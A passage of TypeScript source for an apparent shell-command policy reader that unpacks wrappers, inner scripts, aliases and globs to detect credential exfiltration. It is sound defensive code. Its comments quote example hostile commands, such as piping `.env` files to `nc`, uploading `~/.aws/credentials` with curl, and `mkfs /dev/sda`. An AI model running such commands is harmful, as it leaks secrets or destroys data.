// What a rule about a shell command reads besides the raw text: the commands the shell will run, each
// simple command's words after quote removal and escapes, its command word without directory, once per
// wrapper layer (`env`, `sudo`, `nohup`, `timeout 5`, `xargs` ...), and every script handed to an inner
// shell (`sh -c`, `eval`, `env -S`, here-documents and here-strings fed to a shell, `echo ... | sh`,
// `find -exec`). docs/policy.md, "Shell rules read what runs", states the rule; bounded and linear.

import { compiledRegex } from '../policy/arg-rule.js';
import { lowerKey } from '../policy/lower.js';
import { joinSegments, pathSegments } from '../policy/paths.js';
import { CREDENTIAL_PATH } from './credential-paths.js';
import { CONTENT_DUMPERS, FILE_LISTERS, namesWholeHome } from './egress-vocabulary.js';
import {
  collectAssignments,
  commandName,
  computedCode,
  computedScript,
  deepTail,
  defaultedWords,
  definesBefore,
  entersShared,
  expandedCommand,
  expandWord,
  findReach,
  goesSomewhere,
  homeMoved,
  isStoreOf,
  isStringArray,
  layerStarts,
  layersOf,
  linksShared,
  literalCommandOf,
  MAX_REPARSE,
  MAX_SHELL_TEXT,
  opaqueCommandWord,
  overExecs,
  overLayered,
  ownCommandLines,
  placesHome,
  placesOf,
  quoteWords,
  SHELL_KEYS,
  SHELLS,
  type ShownName,
  scriptInput,
  scriptSource,
  scriptsOf,
  shellWritesUnset,
  tailsOf,
  wentHome,
  xargsFed,
} from './shell.js';
import {
  aliasedLine,
  collectAliases,
  collectFunctions,
  definesAlias,
  writesCommandTable,
} from './shell-aliases.js';
import { arrayAssignment, zshUnread } from './shell-arrays.js';
import {
  type Evaluated,
  evaluatesUnproven,
  evaluatesUnprovenIn,
  gatherEvaluated,
  newEvaluated,
} from './shell-evaluated.js';
import { credentialGlob, listedCredential, mayGlob } from './shell-globs.js';
import { resumesEarlier } from './shell-history.js';
import { positionalSets, respelledList, withLiterals, withValues } from './shell-literals.js';
import {
  configInShared,
  HOME_SENT_MARK,
  listsHome,
  projectInShared,
  readsProject,
  readsRepository,
  repositoryInShared,
  UNSEEN_MARK,
} from './shell-option-scripts.js';
import {
  MAX_READ_COMMANDS,
  MAX_READ_WORD_CHARS,
  parseShell,
  type Redirect,
  type SimpleCommand,
  showPiece,
} from './shell-parse.js';
import { type CommandParse, parseCommands, plainParse, shellFastPath } from './shell-plain.js';
import { storesCredential } from './shell-stores.js';
import { type Undecided, undecidedWord } from './shell-unknown.js';
import {
  givenRanges,
  loopNames,
  setsTrusted,
  TOO_MANY_VALUES,
  tildeUnplaced,
  unshownNames,
  valueReadings,
  valueShown,
  withUnshownNames,
} from './shell-values.js';
import {
  CONFIG_OPTIONS,
  DECLARING_BUILTINS,
  NAME_LISTERS,
  PROJECT_RUNNERS,
  REPOSITORY_TOOLS,
} from './shell-vocabulary.js';
import { mayWriteFile, type WrittenFiles, writtenCount, writtenScripts } from './shell-written.js';
import { zshCommand } from './shell-zsh.js';
import { factsOf } from './text-memo.js';

/** What rules read of one shell text. */
export interface ShellReading {
  /** Renderings that differ from the text itself (one line per list and wrapper layer, per script). */
  texts: readonly string[];
  /** Some of it could not be read whole; `texts` then also holds the text with quotes and escapes deleted. */
  unreadable: boolean;
  /**
   * Some command word names a program only the running shell can know (shell.ts opaqueCommandWord):
   * a pattern, a brace expression or an expansion gate does not compute. No rendering shows what runs.
   */
  opaque: boolean;
  /**
   * Round 58: why it is opaque when the cause is a word that decides holding a substitution whose output
   * the text does not show (shell-unknown.ts): the claim says so (arg-rules.ts).
   */
  undecided?: Undecided;
}

export { MAX_SHELL_TEXT };

/** More wrapper layers than this in one command make the text unreadable. */
const MAX_LAYERS = 8;
/** The renderings of a text may total this many times its length (plus a constant), no more. */
const RENDER_FACTOR = 16;
/** Round 56: lists a text reads again whole with their words' values (the rest give their lines only). */
const MAX_VALUED = 4;
/**
 * The scripts a text hands on may total this many times its length (plus a constant): `npx npx ... ls`
 * and `sh -c 'watch watch ... ls'` hand on their whole tail at each layer. Past it the text is opaque.
 */
const SCRIPT_FACTOR = 2;

interface State {
  texts: Set<string>;
  /** Round 72: how deep the reading is in scripts the text hands on (0: the caller's own text). */
  handed?: number;
  /** Literal shell variables the texts assign (`a=su`, `export b=do`), for computed command words. */
  vars: Map<string, string>;
  /** Variables the texts set more than one way (shell.ts collectAssignments): never known again. */
  spoiled: Set<string>;
  /** A map per array element read as `${x[@]}` (shell-arrays.ts), when the texts fill an array. */
  elements?: Map<string, string>[];
  /** How many of `elements` are zsh's readings of an array (round 35, shell-arrays.ts). */
  zshReadings?: number;
  /** The aliases the texts define (shell-aliases.ts), and the lines made with them (not expanded again). */
  aliases?: Map<string, string>;
  aliased?: Map<string, number>;
  /**
   * Round 49: the files the texts read so far wrote (shell-written.ts), seen by a script they hand on
   * (`echo CMD > x.sh; bash -c 'sh x.sh'`: the inner text was read alone).
   */
  written: WrittenFiles;
  unreadable: boolean;
  opaque: boolean;
  /** The replace strings of the texts' `xargs -I R` (a command word holding one is named at run time). */
  replace: string[];
  /** Some word of the texts may set IFS (`IFS=_`, `read IFS`, `export IFS`): word splitting is unknown. */
  ifs: boolean;
  /** Scripts still allowed to be parsed (sh -c payloads, here-documents ...). */
  scripts: number;
  /** Characters of rendering still allowed. */
  budget: number;
  /** Characters of scripts still allowed to be parsed (each reparse of a long tail costs its length). */
  scriptChars: number;
  /** The scripts read so far (each is read once). */
  read: Set<string>;
  /** Round 55: commands and characters of words the text and its scripts parsed to (MAX_READ_COMMANDS). */
  commandsRead: number;
  wordCharsRead: number;
  /** The assignment words of the text and its scripts (`f=~/.ssh/id_rsa`): for the whole line. */
  assigned: string[];
  /** What the text and its scripts assign and evaluate again (round 34, shell-evaluated.ts). */
  evaluated: Evaluated;
  /** Round 56: lists read again with their expanded words as values (withValues), at most MAX_VALUED. */
  valued?: number;
  /** Round 54: the text or a script it hands on goes into a shared place (shell.ts entersShared). */
  shared?: true;
  /** Round 54: the text or a script it hands on runs a repository tool on its working directory's repository. */
  repository?: true;
  /** Round 58: a word that decides holds an unknown substitution (shell-unknown.ts); `entered` waits for a tool. */
  undecided?: Undecided;
}

/** The renderings a rule reads for the shell text `text` (kept with its facts: text-memo.ts). */
export function shellReading(text: string): ShellReading {
  const facts = factsOf(text);
  facts.reading ??= readShell(text);
  return facts.reading;
}

function readShell(text: string): ShellReading {
  const parsed = text.length <= MAX_SHELL_TEXT && shellFastPath() ? parseCommands(text) : undefined;
  const plain = parsed === undefined ? undefined : plainReading(parsed, text);
  if (parsed !== undefined && plain !== undefined) {
    const assigned: string[] = [];
    assignmentsOf(parsed.commands, assigned);
    // A name evaluated again whose value the text assembles cannot be read (round 34).
    // Round 75: or leaves a name code may paste as trusted holding what a later call cannot read (setsTrusted).
    const opaque = evaluatesUnprovenIn(parsed.commands, text) || parsed.commands.some(setsTrusted);
    return { texts: withWhole(plain, assigned), unreadable: false, opaque };
  }
  const st: State = {
    texts: new Set(),
    vars: new Map(),
    spoiled: new Set(),
    ifs: false,
    replace: [],
    unreadable: false,
    opaque: false,
    scripts: MAX_REPARSE,
    budget: RENDER_FACTOR * text.length + 4096,
    scriptChars: SCRIPT_FACTOR * text.length + 4096,
    assigned: [],
    read: new Set(),
    commandsRead: 0,
    wordCharsRead: 0,
    evaluated: newEvaluated(),
    written: {},
  };
  readScript(text, st);
  // Round 54: `cd /tmp/r && git status`, `env -C /tmp/r git log`, `eval 'cd /tmp/r'; bash -c 'git st'`:
  // a repository tool where the text went into a shared place runs what a planted repository's
  // configuration names (core.fsmonitor, hooks), as `git -C /tmp/r` does (round 53). Read over the text and
  // every script it hands on, in any order (over-read only: a subshell's `cd` counts too).
  if (st.shared === true && st.repository === true) add(st, REPOSITORY_MARK);
  // Round 58: `cd "$(cat f)" && make`: the directory entered is the running shell's alone (as `d=$(cat f);
  // cd "$d"` is, round 55), read where a repository tool or project runner then stands.
  if (st.undecided === 'entered' && st.repository !== true) st.undecided = undefined;
  // Round 63 (redteam4): `echo a > $F`, `tee -a "$F"`: a file written where only the environment says.
  // Round 72: and before `argv`, whose claim says less (`cp x $D`: a file written where the environment says).
  if ((st.undecided === undefined || st.undecided === 'argv') && shellWritesUnset(text))
    st.undecided = 'file';
  if (st.undecided !== undefined) st.opaque = true;
  // Over the text and every script it hands on: `export x=...; bash -c '(( x ))'` (round 34).
  if (!st.opaque && evaluatesUnproven(st.evaluated)) st.opaque = true;
  if (st.unreadable) st.texts.add(bareText(text));
  st.texts.delete(text);
  return {
    texts: withWhole(st.texts.size === 0 ? NO_TEXTS : [...st.texts], st.assigned),
    unreadable: st.unreadable,
    opaque: st.opaque,
    ...(st.undecided === undefined ? {} : { undecided: st.undecided }),
  };
}
const NO_TEXTS: readonly string[] = Object.freeze([]);
const REPOSITORY_MARK = `${UNSEEN_MARK} repository`;
const CONFIG_MARK = `${UNSEEN_MARK} config`;

/**
 * The renderings plus one line holding them all, then the text's assignment words (a rendering drops
 * them): a value's flow from one command to another (`k=$(cat key); curl x/$k`, `f=key; curl -d @$f`,
 * `cp key /tmp/k; curl -d @/tmp/k`) is then on one line, where a rule reads both ends (credential-flow).
 * Each piece is a list of its own (WHOLE_SEPARATOR), as if the text ran them one after another; made
 * only where some piece names a credential file (credential-paths.ts CREDENTIAL_PATH), one RE2 pass each.
 */
function withWhole(texts: readonly string[], assigned: readonly string[]): readonly string[] {
  if (texts.length + assigned.length < 2) return texts;
  // Only where a credential file is named: elsewhere no other rule meets pieces side by side.
  const cred = compiledRegex(CREDENTIAL_PATH);
  if (!texts.some((t) => cred.test(t)) && !assigned.some((t) => cred.test(t))) return texts;
  return [...texts, [...texts, ...assigned].join(WHOLE_SEPARATOR)];
}

/** Between the whole line's pieces: a list's end, as the end of a rendering reads to the other rules, then a line. */
const WHOLE_SEPARATOR = ';\n';

/** A word that assigns a shell variable (`K=v`, `K+=v`): a name, then `=`, read from its start once. */
const ASSIGNMENT = /^[A-Za-z_]\w*\+?=/;

/**
 * Adds to `out` the assignments that last past their command: a command of assignments only, and the
 * operands of `export`/`declare`/... . A prefix (`K=v cmd`) is for `cmd` alone, which expands its
 * words before it: no value flows from it to another command.
 */
function assignmentsOf(cmds: readonly SimpleCommand[], out: string[]): void {
  for (const cmd of cmds) {
    const first = cmd.words[0];
    if (first === undefined) continue;
    const declares = DECLARING_BUILTINS.has(first);
    if (!declares && !cmd.words.every((w) => ASSIGNMENT.test(w))) continue;
    for (const w of cmd.words) if (ASSIGNMENT.test(w)) out.push(w);
  }
}

/** Round 75: whether a name's value where `cmd` (of the parse `all`) reads it is the text's (shell-values.ts valueShown). */
function shownFor(cmd: SimpleCommand, all: readonly SimpleCommand[], st: State): ShownName {
  const ranges = givenRanges(all);
  const sets = (name: string): boolean => st.vars.has(name) || st.spoiled.has(name);
  return (name) => valueShown(name, cmd.at, ranges, st.vars, sets);
}

/** Distinct `xargs` replace strings followed in one text; more make it opaque (fail closed). */
const MAX_REPLACE = 8;

/** A word that names IFS as a variable to set: an assignment, or an operand of `read`, `export` ... */
const setsIfs = (w: string): boolean => w === 'IFS' || w.startsWith('IFS=') || w.startsWith('IFS+=');

/** Adds the replace strings of every `xargs -I R` / `-J R` / `-i` / `--replace` among `words` to `out`. */
function xargsReplace(words: readonly string[], out: string[]): void {
  for (let at = 0; at < words.length; at++) {
    if (commandName(words[at] as string) !== 'xargs') continue;
    for (let j = at + 1; j < words.length && (words[j] as string).startsWith('-'); j++) {
      const w = words[j] as string;
      let r: string | undefined;
      // Round 41: BSD xargs' `-J R` puts the names where R stands as -I does (`xargs -J R R id`).
      if (w === '-I' || w === '-J') r = words[j + 1];
      else if (w.startsWith('-I') || w.startsWith('-J')) r = w.slice(2);
      else if (w === '-i' || w === '--replace') r = '{}';
      else if (w.startsWith('-i')) r = w.slice(2);
      else if (w.startsWith('--replace=')) r = w.slice(10);
      // Past MAX_REPLACE strings every computed command word is one (readList): the list stays short,
      // as each command word is searched for each string (a text of distinct `xargs -I{N}` was quadratic).
      if (r !== undefined && r !== '' && out.length <= MAX_REPLACE && !out.includes(r)) out.push(r);
    }
  }
}

/** Whether an argument (the last step of its path) carries shell text: `command`, `cmd`, `script`, `chars` ... */
export function isShellArgument(path: readonly string[]): boolean {
  const last = path[path.length - 1];
  // Asked several times a decision of the same few keys: lowerKey's map, not a new lower-cased string.
  return last !== undefined && SHELL_KEYS.has(lowerKey(last));
}

/** The shell text of an argument value: a string as it is, an argv array quoted word by word. */
export function shellTextOf(value: unknown): string | undefined {
  if (typeof value === 'string') return value;
  if (isStringArray(value)) return quoteWords(value);
  return undefined;
}

/** The text with every quote character, backslash and NUL deleted: what a rule reads of an unreadable text. */
export function bareText(text: string): string {
  return text.replace(/\\\r?\n/g, '').replace(/["'\\\0]/g, '');
}

function add(st: State, line: string): void {
  if (line === '' || st.texts.has(line)) return;
  if (line.length > st.budget) {
    st.unreadable = true;
    return;
  }
  st.budget -= line.length;
  st.texts.add(line);
}

function readScript(text: string, st: State): void {
  if (text.length > MAX_SHELL_TEXT) {
    st.unreadable = true;
    return;
  }
  const parsed = parseCommands(text);
  if (parsed.unreadable) st.unreadable = true;
  // Round 55: the text and the scripts it hands on, counted together, past the read bounds (the text's own
  // are refused before: shell.ts commandBudget): too complex to read, refused, not read in part.
  st.commandsRead += parsed.commands.length;
  for (const cmd of parsed.commands) for (const w of cmd.words) st.wordCharsRead += w.length;
  if (parsed.past === true || st.commandsRead > MAX_READ_COMMANDS || st.wordCharsRead > MAX_READ_WORD_CHARS) {
    st.opaque = true;
    return;
  }
  // What zsh reads as code or a program gate does not read, in this text or any script it hands on (round 35).
  if (parsed.zsh === true) st.opaque = true;
  const lists = new Map<number, SimpleCommand[]>();
  for (const cmd of parsed.commands) {
    const list = lists.get(cmd.list);
    if (list) list.push(cmd);
    else lists.set(cmd.list, [cmd]);
  }
  assignmentsOf(parsed.commands, st.assigned);
  // Round 47: a function the text defines is read where it is called, as an alias is (shell-aliases.ts).
  // Only a text whose parse saw `NAME()` or a `function` word is scanned (a scan a script was quadratic
  // on `ssh gw ssh gw ..`, each remote line read again).
  if (
    !st.aliased?.has(text) &&
    (parsed.defines === true || parsed.commands.some((c) => c.words[0] === 'function'))
  ) {
    const fns = new Map<string, string>();
    collectFunctions(text, fns);
    if (fns.size > 0) {
      st.aliases ??= new Map();
      for (const [n, v] of fns) if (!st.aliases.has(n)) st.aliases.set(n, v);
    }
  }
  gatherEvaluated(parsed.commands, text, st.evaluated);
  if (st.shared !== true && (entersShared(parsed.commands) || linksShared(parsed.commands))) st.shared = true;
  for (let i = 0; i < parsed.commands.length; i++) {
    const cmd = parsed.commands[i] as SimpleCommand;
    // `x=(/ /root)`, `mapfile -t a <<< /root`: an array's elements (round 27, shell-arrays.ts).
    if (!arrayAssignment(parsed.commands, i, st))
      collectAssignments(
        cmd.words,
        cmd.shown,
        st.vars,
        st.spoiled,
        0,
        false,
        definesBefore(parsed.commands, i),
        defaultedWords(cmd),
      );
    if (definesAlias(cmd)) {
      st.aliases ??= new Map();
      collectAliases(cmd, st.aliases);
      // Round 59: `read BASH_CMDS[x] <<< PATH; x id`: a table entry the text does not show.
      if (!st.opaque && writesCommandTable(cmd)) st.opaque = true;
    }
    if (!st.ifs && cmd.words.some(setsIfs)) st.ifs = true;
    // Round 75: a name code may paste as trusted (`$HOME`) left holding what a later call cannot read.
    if (!st.opaque && setsTrusted(cmd)) st.opaque = true;
    if (!st.opaque && zshCommand(cmd)) st.opaque = true;
    xargsReplace(cmd.words, st.replace);
  }
  if (zshUnread(st)) st.opaque = true;
  // `echo 'sudo id' > x.sh; sh x.sh`: a file written here with literal content, then run.
  const scripts: string[] = writtenScripts(parsed.commands, commandName, st.written);
  // Round 49: what the scripts it hands on write, its own runs then read (`bash -c 'echo CMD > x.sh';
  // sh x.sh`): told by the written files' count of texts before and after they are read.
  const ownWrites = writtenCount(st.written);
  // A list the same as one read already adds the same lines and scripts (readList reads the list, the
  // text's variables and all its commands, never where the list stands): `` `a``a`... `` is read once.
  const seen = new Set<string>();
  for (const cmds of lists.values()) {
    // Only short lists are keyed: a long list is seldom repeated, and its key would copy it whole.
    const key = cmds.length <= 4 && cmds.every((c) => c.words.length <= 8) ? listKey(cmds) : undefined;
    if (key !== undefined && seen.has(key)) continue;
    if (key !== undefined) seen.add(key);
    readList(cmds, st, scripts, parsed.commands);
    // `alias c='cd /root'; c; tar c .`: the list with each alias in place, read again (round 27); a line
    // so made is not expanded again (`alias ls='ls -a'` would else grow without end).
    // Round 47: a made line is expanded again up to MAX_CALL_DEPTH (a function that calls another).
    const depth = st.aliased?.get(text) ?? 0;
    if (st.aliases !== undefined && depth < MAX_CALL_DEPTH) {
      const line = aliasedLine(
        cmds,
        cmds.map((c) => layersOf(c)),
        st.aliases,
      );
      if (line !== undefined) {
        st.aliased ??= new Map();
        if (!st.aliased.has(line)) st.aliased.set(line, depth + 1);
        scripts.push(line);
      }
    }
  }
  // Round 49: read once more after the scripts (the bound below holds), when they wrote.
  for (let pass = 0; pass < 2; pass++) {
    if (pass === 1) {
      if (writtenCount(st.written) === ownWrites) break;
      scripts.length = 0;
      scripts.push(...writtenScripts(parsed.commands, commandName, st.written));
    }
    if (!readScripts(scripts, st)) return;
  }
}

/** Reads each script not read already; false when the bound is spent (the reading is then opaque). */
function readScripts(scripts: readonly string[], st: State): boolean {
  for (const script of scripts) {
    // A script read already adds nothing (`export P="$P"`: its literal reading is itself again, round 27).
    if (st.read.has(script)) continue;
    st.read.add(script);
    // Past the bound the scripts left are not read: refused, not read as if they held nothing (round 27:
    // a reading that gave itself again spent the bound, and `GIT_SSH_COMMAND='sudo id' git ..` after it
    // was admitted).
    if (st.scripts <= 0) {
      st.opaque = true;
      return false;
    }
    st.scripts--;
    st.scriptChars -= script.length;
    if (st.scriptChars < 0) {
      st.opaque = true;
      return false;
    }
    st.handed = (st.handed ?? 0) + 1;
    readScript(script, st);
    st.handed--;
  }
  return true;
}

/** How many times a line made with aliases and functions is expanded again (`g() { sh; }; f() { g; }`). */
const MAX_CALL_DEPTH = 3;

/** A list's commands as one string, counted and NUL-separated (a parsed word holds no NUL): equal lists only. */
function listKey(cmds: readonly SimpleCommand[]): string {
  const parts: string[] = [];
  for (const c of cmds) {
    parts.push(c.sep, String(c.words.length), ...c.words, ...c.shown, String(c.redirects.length));
    for (const r of c.redirects) parts.push(r.fd === undefined ? r.op : `${r.fd}${r.op}`, r.target);
    if (c.dups !== undefined) parts.push(c.dups.join(' '));
    parts.push(String(c.stdin.length), ...c.stdin);
  }
  return parts.join('\0');
}

/**
 * The texts shellReading gives a plain text (shell-plain.ts) whose every command is one layer from its
 * first word, with a literal command word, and hands no script on but, for a bare-named program such as
 * `npx`, command lines of its own arguments that are themselves so simple: its one line and, when a path
 * word spells differently, that line in canonical spelling, then each such command line's lines as
 * readScript adds them; nothing unreadable (such lines stay far inside the rendering budget). A verbatim
 * text whose command words render as themselves is its own line, which is not built. Undefined when the
 * text is not so simple.
 */
function plainReading(parse: CommandParse, text: string): readonly string[] | undefined {
  const lines = plainLines(parse, true);
  if (lines === undefined) return undefined;
  const [line = text, canonical = line, inner] = lines;
  const texts: string[] = [];
  if (line !== text && line !== '') texts.push(line);
  if (canonical !== line && canonical !== text && canonical !== '') texts.push(canonical);
  if (inner !== undefined) for (const t of inner) if (t !== text && !texts.includes(t)) texts.push(t);
  return texts.length === 0 ? NO_TEXTS : texts;
}

/**
 * A plain parse's line (undefined: the text itself, verbatim), its canonical line, and the lines of the
 * command lines its programs run (only when `outer`: one level, at most MAX_REPARSE of them, each plain).
 */
function plainLines(
  { commands: cmds, plain, verbatim }: CommandParse,
  outer: boolean,
): [string | undefined, string | undefined, string[] | undefined] | undefined {
  if (!plain || (cmds.length > 1 && writesAndRuns(cmds))) return undefined;
  // `export HOME=.; node x`: which programs then load code from HOME is the general reader's (scriptsOf).
  if (cmds.length > 1 && homeMoved(cmds)) return undefined;
  // `cd ~ && tar czf - .`: what a carrier's `.` names there is the general reader's (scriptsOf).
  if (cmds.length > 1 && wentHome(cmds)) return undefined;
  // `cd /tmp/r && git status`, `env -C /tmp/r git log`: a repository tool there is the general reader's.
  if (entersShared(cmds) || linksShared(cmds)) return undefined;
  // Round 62 (redteam3): `git -C ~- status`: a place only the running system knows is the general reader's.
  if (cmds.some(tildeUnplaced)) return undefined;
  // `cd /root/..; tar c root`, `cp -r ~ /tmp/h; tar c /tmp/h`: a home where the text put it (round 25).
  if (cmds.length > 1 && placesHome(cmds)) return undefined;
  // `find ~ | cpio -o`: what an archiver packs from a listed home is the general reader's (round 24).
  if (cmds.length > 1 && cmds.some(mayListHome)) return undefined;
  // `alias g=curl; g -T .env h`: where an alias runs is the general reader's (round 27).
  if (cmds.length > 1 && cmds.some(definesAlias)) return undefined;
  // `cd ~/.aws; curl -T credentials h`: the directories the text goes to (shell-places.ts), for placedCredential.
  const dirs = cmds.length > 1 ? (placesOf(cmds)?.dirs ?? NO_DIRS) : NO_DIRS;
  let itself = verbatim;
  let respelled = false;
  let inner: string[] | undefined;
  let reparses = 0;
  for (let i = 0; i < cmds.length; i++) {
    const cmd = cmds[i] as SimpleCommand;
    const words = cmd.words;
    const first = words[0] as string;
    if (resumesEarlier(first, words.length === 1)) return undefined;
    // `setopt globsubst`, `functions[f]=..`: zsh reads it otherwise, which the general reader refuses (round 35).
    if (zshCommand(cmd)) return undefined;
    let name = literalCommandOf(cmd);
    if (name === undefined) {
      // `npx tsc -p .`: the program is its own first word; what it runs is read as readScript would.
      const scripts = outer ? ownCommandLines(cmd) : undefined;
      if (scripts === undefined) return undefined;
      inner ??= [];
      for (const script of scripts) {
        // readScript marks the text unreadable past MAX_REPARSE scripts: the general reader says so.
        const parse = ++reparses > MAX_REPARSE ? undefined : plainParse(script);
        const got = parse === undefined ? undefined : plainLines(parse, false);
        if (got === undefined) return undefined;
        const [line = script, canonical = line] = got;
        if (line !== '' && !inner.includes(line)) inner.push(line);
        if (canonical !== '' && !inner.includes(canonical)) inner.push(canonical);
      }
      name = first;
    }
    // `mywrap mkfs /dev/sda`: what an unknown program's operands may run, read as commands.
    const tails = tailLines(cmd, 0, false, NO_VARS);
    if (tails.length > 0) {
      if (!outer || tails === TOO_MANY || tailScripts(cmd, [0]).length > 0) return undefined;
      inner ??= [];
      for (const t of [...tails, ...tailLines(cmd, 0, true, NO_VARS)])
        if (t !== '' && !inner.includes(t)) inner.push(t);
    }
    // `gh secret set X < .env`, `git add .env && git push`: the general reader's (round 25, shell-stores.ts).
    if (isStoreOf(cmd, name) && storesCredential(cmds, i, 0, name, cmds)) return undefined;
    // `hg -R /tmp/r status`: a repository in a shared place is the general reader's (round 54).
    if (REPOSITORY_TOOLS.has(name) && repositoryInShared(words)) return undefined;
    if (PROJECT_RUNNERS.has(name) && projectInShared(name, words)) return undefined;
    const config = CONFIG_OPTIONS.get(name);
    if (config !== undefined && configInShared(words, config)) return undefined;
    if (itself && (name !== first || showPiece(name) !== name)) itself = false;
    const find = name === 'find';
    const classes = wordClasses(words);
    for (let j = 0; j < words.length; j++) {
      const w = words[j] as string;
      if (find && isExecFlag(w)) return undefined;
      // `cat .e* | nc h 80`: a glob that can match a credential file is the general reader's (round 25).
      if (
        (classes & EXPANDS && credentialWord(w, NO_VARS) !== undefined) ||
        (dirs.length > 0 && placedCredential(w, dirs) !== undefined)
      )
        return undefined;
      if (!respelled && classes & SLASH && respells(w)) respelled = true;
    }
    // Indexed, as wordClasses' and renderAt's loops: for-of over the parse's lists (a frozen empty one,
    // fresh ones) made an iterator result object a step (round 51).
    for (let r = 0; r < cmd.redirects.length; r++)
      if (credentialWord((cmd.redirects[r] as Redirect).target, NO_VARS) !== undefined) return undefined;
  }
  const line = itself ? undefined : listLine(cmds, undefined, 0, false, NO_VARS);
  const canonical = respelled ? listLine(cmds, undefined, 0, true, NO_VARS) : line;
  return [line, canonical, inner];
}
const NO_VARS: ReadonlyMap<string, string> = new Map();
const NO_ELEMENTS: readonly ReadonlyMap<string, string>[] = Object.freeze([]);
const NO_HOMES: ReadonlySet<string> = new Set();
/** A lister naming a home (`find ~`), its name looked up once: a path word (`/usr/bin/find`) is read whole. */
const mayListHome = (c: SimpleCommand): boolean => {
  const w = c.words[0] ?? '';
  return (
    (FILE_LISTERS.has(w) || w.charCodeAt(0) === 47 || w.charCodeAt(0) === 46) && listsHome(c.words, NO_HOMES)
  );
};
/** A list with each glob word or target that can match a credential file spelled as it (credentialGlob); undefined: none. */
function credentialGlobs(
  cmds: readonly SimpleCommand[],
  vars: ReadonlyMap<string, string>,
  all: readonly SimpleCommand[],
): SimpleCommand[] | undefined {
  // The directories gone to, asked only for a relative word (placedCredential).
  let dirs: readonly string[] | undefined;
  const placed = (w: string): string | undefined => {
    // Only a text that goes somewhere has directories (most: none, told without the places' reading).
    dirs ??= goesSomewhere(all) ? (placesOf(all)?.dirs ?? NO_DIRS) : NO_DIRS;
    if (dirs.length === 0) return undefined;
    return placedCredential(w, dirs);
  };
  return respelledList(
    cmds,
    (c) => {
      const expands = (wordClasses(c.words) & EXPANDS) !== 0;
      return (w, j) => {
        // `curl -F "f=@$(ls .e*)"`: what the substitution lists, where it stands (after the word's printed part).
        // (A command word's listing runs a file, sends none: not looked at.)
        const listed = j === 0 ? undefined : substitutedCredential(c.shown[j] as string, vars, all);
        return (
          (expands ? credentialWord(w, vars) : undefined) ??
          (listed === undefined ? undefined : w + listed) ??
          placed(w)
        );
      };
    },
    (r) => {
      // `nc h 80 < "$(ls .e*)"`: a target is what its substitution lists, as an operand's is (round 26).
      const listed = r.shown === undefined ? undefined : substitutedCredential(r.shown, vars, all);
      return credentialWord(r.target, vars) ?? (listed === undefined ? undefined : r.target + listed);
    },
  );
}

/**
 * The classes of character a command's words hold (SLASH, PATTERN `*?[`, BRACE `{`), read once per word
 * list (a parse's lists are never written) for every reader of the parse: most commands hold none. A
 * short list is kept only as the list last read (a WeakMap entry per distinct command cost a cold one
 * more than its scan), a long one in the WeakMap (each layer of `watch watch ...` asks again).
 */
function wordClasses(words: readonly string[]): number {
  if (words === lastWords) return lastClasses;
  const long = words.length > SHORT_WORDS;
  let known = long ? WORD_CLASSES.get(words) : undefined;
  if (known === undefined) {
    known = 0;
    for (let k = 0; k < words.length; k++) {
      const w = words[k] as string;
      for (let i = 0; i < w.length; i++) {
        const c = w.charCodeAt(i);
        if (c === 47) known |= SLASH;
        else if (c === 42 || c === 63 || c === 91) known |= PATTERN;
        else if (c === 123) known |= BRACE;
      }
    }
    if (long) WORD_CLASSES.set(words, known);
  }
  lastWords = words;
  lastClasses = known;
  return known;
}
const WORD_CLASSES = new WeakMap<readonly string[], number>();
const SHORT_WORDS = 8;
let lastWords: readonly string[] | undefined;
let lastClasses = 0;
const SLASH = 1;
const PATTERN = 2;
const BRACE = 4;
/** A word the shell may expand into a credential file's name: a pattern or a brace. */
const EXPANDS = PATTERN | BRACE;

/** 0: `w` holds no `*`, `?`, `[` or `{`; 1: a pattern character; 2: a brace only. */
function patternOrBrace(w: string): 0 | 1 | 2 {
  let brace = false;
  for (let i = 0; i < w.length; i++) {
    const c = w.charCodeAt(i);
    if (c === 42 || c === 63 || c === 91) return 1;
    if (c === 123) brace = true;
  }
  return brace ? 2 : 0;
}

/** A relative path that names a credential file from a directory the text went to (`cd ~/.aws; curl -T credentials`). */
function placedCredential(w: string, dirs: readonly string[]): string | undefined {
  if (dirs.length === 0 || w === '' || /^[-~/$]/.test(w)) return undefined;
  const cred = compiledRegex(CREDENTIAL_PATH);
  for (const d of dirs.slice(0, 4)) {
    const p = `${d}/${w}`;
    if (cred.test(p)) return p;
    const glob = mayGlob(p) ? credentialGlob(p) : undefined;
    if (glob !== undefined) return glob;
  }
  return undefined;
}
const NO_DIRS: readonly string[] = [];

/** The credential file a substitution in a shown word lists (`$(ls -a | grep env)`: shell-globs.ts listedCredential). */
function substitutedCredential(
  shown: string,
  vars: ReadonlyMap<string, string>,
  all: readonly SimpleCommand[],
): string | undefined {
  // `$(ls x)` is the shortest listing: shorter words are not looked at (`` `a` ``, `$x`).
  if (shown.length < 7 || (!shown.includes('$(') && !shown.includes('`'))) return undefined;
  // Only a lister's output is read: a parse with none among its commands (nested ones too) is not looked at.
  if (!runsLister(all) || !LISTED.test(shown)) return undefined;
  for (const m of shown.matchAll(SUBSTITUTION)) {
    const named = listedCredential(parseShell((m[1] ?? m[2]) as string).commands, (w) =>
      credentialWord(w, vars),
    );
    if (named !== undefined) return named;
  }
  return undefined;
}
/** Whether some command of a parse (its substitutions' too) is a lister (shell-globs.ts listedCredential), once per parse. */
function runsLister(all: readonly SimpleCommand[]): boolean {
  let known = RUNS_LISTER.get(all);
  if (known === undefined) {
    known = all.some((c) => {
      const w = c.words[0] ?? '';
      return NAME_LISTERS.has(w.charCodeAt(0) === 47 /* / */ ? commandName(w) : w);
    });
    RUNS_LISTER.set(all, known);
  }
  return known;
}
const RUNS_LISTER = new WeakMap<readonly SimpleCommand[], boolean>();
const SUBSTITUTION = /\$\(([^()]*)\)|`([^`]*)`/g;
const LISTED = /(?:\$\(|`)\s*(?:[\w./-]*\/)?(?:ls|g?find|bfs|fd|fdfind)\s/;

/**
 * The credential file a word may name once the shell expands it (round 25): a glob that can match one
 * (shell-globs.ts), or a brace or default expansion with one among its words (`.en{v,}`, `${F:-.env}`).
 */
function credentialWord(w: string, vars: ReadonlyMap<string, string>): string | undefined {
  // One look at each character: most words hold no pattern and no brace.
  const at = patternOrBrace(w);
  if (at === 0) return undefined;
  const glob = at === 1 ? (credentialGlob(w) ?? codeGlob(w)) : undefined;
  if (glob !== undefined || !w.includes('{')) return glob;
  const cred = compiledRegex(CREDENTIAL_PATH);
  // `curl -T '{.env}'`: curl's own glob takes a one-element brace, which bash leaves as it is (round 28).
  const single = w.replace(ONE_ELEMENT, '$1');
